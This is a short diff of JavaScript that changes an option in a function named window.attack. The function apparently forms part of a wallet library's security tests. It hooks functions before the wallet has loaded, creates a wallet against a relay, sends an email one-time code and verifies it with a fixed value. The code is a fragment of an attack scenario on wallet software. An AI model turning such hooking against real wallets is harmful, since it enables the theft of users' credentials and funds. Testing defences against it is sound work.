@@ -73,7 +73,7 @@ function unhook(): void {
 /** Hooks everything before the wallet has loaded more than its first file, then uses it. */
 window.attack = async ({ relay, accountId, emailId, cardId }) => {
   const loot = hookAll();
-  const wallet = createWallet({ relay, accountId });
+  const wallet = createWallet({ relay, accountId, minimumCheck: 'unreadable' });
   const otp = await wallet.emailOtp(emailId).send();
   await otp.verify('000000');
   await wallet.refresh();
